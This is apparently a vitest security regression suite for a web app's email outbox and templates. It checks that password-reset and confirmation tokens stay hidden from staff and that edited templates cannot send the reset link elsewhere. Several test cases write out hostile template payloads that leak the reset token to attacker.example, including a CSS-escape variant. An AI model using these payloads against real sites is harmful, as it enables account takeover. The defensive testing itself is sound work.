import { beforeAll, describe, expect, it } from 'vitest';
import { jobs, mailOutbox } from '../../db/schema';
import { bearer, DB_TARGETS, linkIn, useTestApp } from '../../test/harness';

type Who = { id: string; token: string; email: string; password: string };
const TEMPLATES = '/api/admin/email/templates';

// Issue #16 item 1: an editor read the superadmin's password reset link in the outbox, followed it and took the
// account; editors could also point the reset template's link elsewhere.
describe.each(DB_TARGETS)('secrets never readable in the outbox (%s)', (target) => {
  const t = useTestApp(target);
  let editor: Who, admin: Who, superadmin: Who;

  const as = (who: Who | null, method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) =>
    t.request({ method, url, headers: who ? bearer(who.token) : {}, ...(payload ? { payload } : {}) });
  const byKey = async (key: string) =>
    ((await as(editor, 'GET', TEMPLATES)).json().data.templates as { id: string; key: string; name: string }[]).find(
      (x) => x.key === key,
    )!;

  beforeAll(async () => {
    const mk = async (role: 'editor' | 'admin' | 'superadmin') => {
      const u = await t.createUser({ role });
      return { id: u.id, token: (await t.login(u.email, u.password)).token, email: u.email, password: u.password };
    };
    [editor, admin, superadmin] = [await mk('editor'), await mk('admin'), await mk('superadmin')];
  });

  it("shows an editor that a reset was sent, never the link; the superadmin's mailbox gets the live link", async () => {
    expect((await as(null, 'POST', '/api/auth/forgot-password', { email: superadmin.email })).statusCode).toBe(200);
    const list = (await as(editor, 'GET', `/api/admin/outbox?search=${encodeURIComponent(superadmin.email)}`)).json()
      .data.messages as { id: string; kind: string }[];
    const reset = list.find((m) => m.kind === 'reset-password')!;
    const seen = (await as(editor, 'GET', `/api/admin/outbox/${reset.id}`)).json().data;
    for (const part of [seen.text, seen.html]) {
      expect(part).not.toMatch(/token=/);
      expect(part).toContain('[hidden: password reset link]');
    }
    // Delivery changes nothing in what staff see, and leaves no readable link anywhere in the database.
    await t.drain();
    const after = (await as(editor, 'GET', `/api/admin/outbox/${reset.id}`)).json().data;
    expect(after.status).toBe('stored');
    expect(`${after.text}${after.html}`).not.toMatch(/token=/);
    const rows = await t.app.ctx.db.select().from(mailOutbox);
    expect(rows.some((r) => /reset-password\?token=/.test(`${r.text}${r.html}`))).toBe(false);
    const queue = await t.app.ctx.db.select().from(jobs);
    expect(queue.some((j) => /token|sealed/.test(JSON.stringify(j.payload)))).toBe(false);

    // The owner still gets a working link, delivered to their mailbox (not reachable over HTTP).
    const [delivered] = await t.inbox(superadmin.email);
    const link = new URL(linkIn(delivered!.text, '/reset-password?token='));
    expect(delivered!.html).toContain(`href="${link.toString().replace(/&/g, '&amp;')}"`);
    const done = await as(null, 'POST', '/api/auth/reset-password', {
      token: link.searchParams.get('token'),
      password: 'Super#New2026',
    });
    expect(done.statusCode).toBe(200);
  });

  it('keeps the link sealed while the message waits for delivery', async () => {
    await as(null, 'POST', '/api/signup', {
      name: 'Queued',
      email: 'queued.secret@example.com',
      password: 'Passw0rd!',
    });
    const waiting = (await t.app.ctx.db.select().from(jobs)).filter((j) => j.status === 'queued');
    expect(waiting.some((j) => /sealed/.test(JSON.stringify(j.payload)))).toBe(true);
    expect(waiting.some((j) => /verify-email\?token=|eyJ/.test(JSON.stringify(j.payload)))).toBe(false);
    const [stored] = (await t.mails('queued.secret@example.com')).filter((m) => m.kind === 'verify-email');
    expect(stored!.text).toContain('[hidden: e-mail confirmation link]');
    await t.drain();
    const [delivered] = (await t.inbox('queued.secret@example.com')).filter((m) => /Confirm/.test(m.subject));
    expect(linkIn(delivered!.text, '/verify-email?token=')).toMatch(/^http:\/\/serenade\.test\/verify-email\?token=ey/);
  });

  it('lets only an admin change a template that carries a secret link', async () => {
    const tpl = await byKey('password_reset');
    const hijack = {
      name: tpl.name,
      subject: 'Reset',
      body: '<p><a class="button" href="https://attacker.example/?t={{resetPasswordLink}}">Reset</a></p>',
      is_html: true,
    };
    const asEditor = await as(editor, 'PUT', `${TEMPLATES}/${tpl.id}`, hijack);
    expect(asEditor.statusCode).toBe(403);
    expect(asEditor.json()).toMatchObject({
      code: 'FORBIDDEN',
      error: 'Only an admin can change this template: it carries the password reset link.',
    });
    expect((await as(editor, 'POST', `${TEMPLATES}/${tpl.id}/reset`, {})).statusCode).toBe(403);
    // Other templates stay the editors'.
    const welcome = await byKey('welcome');
    const w = (await as(editor, 'GET', `${TEMPLATES}/${welcome.id}`)).json().data;
    expect(w.linkPlaceholder).toBeNull();
    expect(
      (
        await as(editor, 'PUT', `${TEMPLATES}/${welcome.id}`, {
          name: w.name,
          subject: w.subject,
          body: w.body,
          is_html: true,
        })
      ).statusCode,
    ).toBe(200);
    expect((await as(editor, 'GET', `${TEMPLATES}/${tpl.id}`)).json().data.linkPlaceholder).toBe('resetPasswordLink');
  });

  it('refuses, even from an admin, a secret template whose link is gone, typed in or placed where it leaks', async () => {
    const tpl = await byKey('password_reset');
    const put = (subject: string, body: string, is_html = true) =>
      as(admin, 'PUT', `${TEMPLATES}/${tpl.id}`, { name: tpl.name, subject, body, is_html });
    const cases: [string, string, boolean, RegExp][] = [
      ['Reset', '<p><a class="button" href="https://attacker.example/reset">Reset</a></p>', true, /must contain/],
      [
        'Reset',
        '<p><a class="button" href="https://attacker.example/?t={{resetPasswordLink}}">Reset</a></p>',
        true,
        /Type no web addresses/,
      ],
      ['Reset', '<p><a href="{{ resetPasswordLink }}">ok</a> <a href="/reset">also</a></p>', true, /Every link/],
      ['Reset', '<p>{{resetPasswordLink}}</p><img src="{{resetPasswordLink}}">', true, /Placeholders can only be used/],
      ['Reset {{resetPasswordLink}}', '<p><a href="{{resetPasswordLink}}">go</a></p>', true, /subject cannot contain/],
      ['Reset', 'Go to https://attacker.example now. {{resetPasswordLink}}', false, /Type no web addresses/],
      ['Reset', '{{#resetPasswordLink}}x{{/resetPasswordLink}} {{resetPasswordLink}}', false, /section/],
      // Typed text glued to the link makes it part of another address for a mail client that links addresses.
      ['Reset', '<p>Go to attacker.example/?x={{resetPasswordLink}}</p>', true, /must stand on its own/],
      ['Reset', '<p>attacker.example#{{ resetPasswordLink }}</p>', true, /must stand on its own/],
      ['Reset', 'Visit attacker.example/{{resetPasswordLink}} now', false, /must stand on its own/],
      ['Reset', 'Visit {{resetPasswordLink}}@attacker.example now', false, /must stand on its own/],
      // CSS escapes rebuild an address next to the link without typing one.
      [
        'Reset',
        '<style>p{background:url(\\2f\\2f attacker.example\\2f {{resetPasswordLink}})}</style><p><a href="{{resetPasswordLink}}">x</a></p>',
        true,
        /cannot contain a <style> element/,
      ],
    ];
    for (const [subject, body, isHtml, message] of cases) {
      const res = await put(subject, body, isHtml);
      expect(res.statusCode, body).toBe(400);
      expect(res.json().code).toBe('VALIDATION_ERROR');
      expect(res.json().error).toMatch(message);
    }
    expect((await as(editor, 'GET', `${TEMPLATES}/${tpl.id}`)).json().data.body).toContain('{{resetPasswordLink}}');
    const ok = await put(
      'Your new password',
      '<p>Hi {{userName}}</p><p><a class="button" href="{{ resetPasswordLink }}">Choose</a></p><p><a href="{{siteUrl}}">Site</a> <a href="mailto:{{supportEmail}}">Help</a></p>',
    );
    expect(ok.statusCode).toBe(200);
    expect((await as(admin, 'POST', `${TEMPLATES}/${tpl.id}/reset`, {})).statusCode).toBe(200);
  });

  it('never lets a preview or test send fill the live link with a typed address', async () => {
    const tpl = await byKey('password_reset');
    const evil = 'http://attacker.example/steal';
    // A typed link is refused (the server fills every link of a test send), and the test goes to the sender.
    const typed = await as(editor, 'POST', `${TEMPLATES}/${tpl.id}/test`, {
      to: editor.email,
      replacements: { resetPasswordLink: evil, userName: 'Boss' },
    });
    expect(typed.statusCode).toBe(400);
    expect(typed.json().error).toMatch(/\{\{resetPasswordLink\}\} is a link/);
    const sent = await as(editor, 'POST', `${TEMPLATES}/${tpl.id}/test`, {
      to: editor.email,
      replacements: { userName: 'Boss' },
    });
    expect(sent.statusCode).toBe(200);
    await t.drain();
    const [mail] = await t.inbox(editor.email);
    expect(mail!.subject).toBe('Reset your Serenade password');
    expect(`${mail!.text}${mail!.html}`).not.toContain('attacker.example');
    expect(mail!.text).toContain('[hidden: password reset link]');
    const preview = await as(editor, 'POST', '/api/admin/email/preview', {
      subject: 'x',
      body: '<p><a href="{{verificationLink}}">Confirm</a></p>',
      is_html: true,
      replacements: { verificationLink: evil },
    });
    expect(preview.statusCode).toBe(200);
    expect(preview.json().data.html).not.toContain('attacker.example');
    expect(preview.json().data.html).toContain('[hidden: e-mail confirmation link]');
  });
});
